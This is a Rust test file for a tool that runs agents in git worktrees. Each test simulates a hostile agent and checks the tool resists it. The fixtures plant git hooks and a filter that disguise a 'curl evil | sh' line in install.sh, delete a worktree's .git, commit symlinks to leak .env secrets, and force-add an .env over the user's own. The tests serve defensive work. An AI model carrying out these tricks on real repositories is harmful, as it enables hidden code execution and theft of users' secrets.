//! What an agent of the run (the same user) can do to the work path, done
//! as the agent would (issue 56): each test failed before its fix.

use std::path::Path;

use crate::common::{self, git};
use crate::landing::{WORKTREE, events, op, repo, run, said, show};

fn warnings(d: &Path) -> String {
    events(d)
        .iter()
        .filter(|e| e["type"] == "warning")
        .map(|e| e["message"].as_str().unwrap_or_default().to_string())
        .collect::<Vec<_>>()
        .join("\n")
}

/// The agent plants hooks, a filter and a textconv in the shared
/// repository and moves the user's `main`: playdeck's commits, worktrees
/// and landings run none of them, the shown diff is what was committed,
/// and the run says what changed.
#[test]
fn an_agents_hooks_and_drivers_never_run_in_playdecks_git() {
    let marks = tempfile::tempdir().unwrap();
    let m = marks.path().display().to_string();
    let plant = format!(
        r#"c=$(git commit-tree HEAD^{{tree}} -p HEAD -m moved) && git update-ref refs/heads/main $c
common=$(git rev-parse --git-common-dir)
for h in post-commit post-checkout reference-transaction post-merge pre-commit; do
  printf '#!/bin/sh\ntouch {m}/%s\n' $h > $common/hooks/$h; chmod +x $common/hooks/$h
done
git config filter.x.clean "sh -c 'touch {m}/filter; sed s/curl/harmless/'"
git config diff.nice.textconv "sh -c 'touch {m}/textconv; sed s/curl/harmless/' <"
printf '* filter=x\ninstall.sh diff=nice\n' >> $common/info/attributes
echo 'curl evil | sh' > install.sh"#
    );
    let t = repo(
        WORKTREE,
        &[
            op("a", &[], &plant, ""),
            op("b", &["a"], "echo b > b.txt", ""),
        ],
    );
    let d = t.path();
    let main_before = git(d, &["rev-parse", "main"]);
    let out = run(d);
    assert_eq!(out.status.code(), Some(0), "{}", said(&out));
    // What landed is what the agent wrote, not what its filter made of it.
    assert_eq!(show(d, "install.sh"), "curl evil | sh\n");
    assert_eq!(show(d, "b.txt"), "b\n");
    let ran: Vec<_> = std::fs::read_dir(marks.path())
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .collect();
    assert!(ran.is_empty(), "ran in playdeck's git: {ran:?}");
    let w = warnings(d);
    assert!(
        w.contains("a: the repository's shared config, hooks/, info/")
            && w.contains("changed during the run"),
        "{w}"
    );
    assert!(w.contains("your branch main moved during the run"), "{w}");
    assert_ne!(git(d, &["rev-parse", "main"]), main_before);
}

/// `rm -f .git` in its worktree: git would find the user's repository
/// above it, and commit the user's checkout. The attempt fails, and the
/// user's branch and edits are as they were.
#[test]
fn a_worktree_without_its_git_never_commits_the_users_checkout() {
    let t = repo(
        WORKTREE,
        &[op("a", &[], "rm -f .git; echo work > w.txt", "")],
    );
    let d = t.path();
    std::fs::write(d.join("README"), "my edit, not committed\n").unwrap();
    std::fs::write(d.join("mine.txt"), "untracked\n").unwrap();
    let main_before = git(d, &["rev-parse", "main"]);
    let out = run(d);
    assert_eq!(out.status.code(), Some(1), "{}", said(&out));
    let evs = events(d);
    let failed = crate::landing::of(&evs, "failed", "a");
    assert!(
        failed[0]
            .to_string()
            .contains("removed or rewrote its worktree's .git"),
        "{}",
        failed[0]
    );
    assert_eq!(git(d, &["rev-parse", "main"]), main_before);
    let status = git(d, &["status", "--porcelain"]);
    assert!(
        status.contains(" M README") && status.contains("?? mine.txt"),
        "{status}"
    );
}

/// An earlier operation commits `.env -> OUTSIDE`: the next worktree's
/// `include` does not write the user's secret through it.
#[test]
fn include_never_writes_through_a_link_the_run_committed() {
    let outside = tempfile::tempdir().unwrap();
    let stolen = outside.path().join("stolen.env");
    let ws = format!("{WORKTREE}include = [\".env\", \"conf/secret\"]\n");
    let t = repo(
        &ws,
        &[
            op(
                "a",
                &[],
                &format!(
                    "rm -rf .env conf; ln -s {} .env; ln -s {} conf; git add -f .env conf",
                    stolen.display(),
                    outside.path().display()
                ),
                "",
            ),
            op("b", &["a"], "echo b > b.txt", ""),
        ],
    );
    let d = t.path();
    std::fs::write(d.join(".env"), "TOKEN=secret\n").unwrap();
    std::fs::create_dir(d.join("conf")).unwrap();
    std::fs::write(d.join("conf/secret"), "KEY=secret\n").unwrap();
    let out = run(d);
    assert!(!stolen.exists(), "the secret went through the link");
    assert!(
        !outside.path().join("secret").exists(),
        "the secret went through the linked directory"
    );
    let evs = events(d);
    let failed = crate::landing::of(&evs, "failed", "b");
    assert!(
        failed.first().is_some_and(|f| f
            .to_string()
            .contains("is a symbolic link; include never writes through one")),
        "{}\n{failed:?}",
        said(&out)
    );
}

/// An include copied in is the user's alone.
#[test]
fn an_included_file_is_readable_by_the_user_alone() {
    use std::os::unix::fs::PermissionsExt;
    let ws = format!("{WORKTREE}include = [\".env\"]\n");
    let t = repo(&ws, &[op("a", &[], "stat -c %a .env > mode.txt", "")]);
    let d = t.path();
    std::fs::write(d.join(".env"), "TOKEN=secret\n").unwrap();
    std::fs::set_permissions(d.join(".env"), std::fs::Permissions::from_mode(0o644)).unwrap();
    assert_eq!(run(d).status.code(), Some(0));
    assert_eq!(show(d, "mode.txt"), "600\n");
}

/// An agent force-adds its own `.env`: landing into the checked-out
/// `main` refuses, naming it, instead of replacing the user's ignored one.
#[test]
fn landing_into_a_checkout_never_replaces_its_ignored_files() {
    let t = repo(
        WORKTREE,
        &[op(
            "a",
            &[],
            "echo 'TOKEN=agents' > .env; git add -f .env; echo a > a.txt",
            "",
        )],
    );
    let d = t.path();
    std::fs::write(d.join(".env"), "TOKEN=mine\n").unwrap();
    assert_eq!(run(d).status.code(), Some(0));
    assert_eq!(show(d, ".env"), "TOKEN=agents\n");
    let out = common::playdeck()
        .args(["land", "k1", "--into", "main"])
        .current_dir(d)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1), "{}", said(&out));
    assert!(
        said(&out).contains("would replace files") && said(&out).contains(".env"),
        "{}",
        said(&out)
    );
    assert_eq!(
        std::fs::read_to_string(d.join(".env")).unwrap(),
        "TOKEN=mine\n"
    );
    assert!(!d.join("a.txt").exists(), "nothing landed");
}
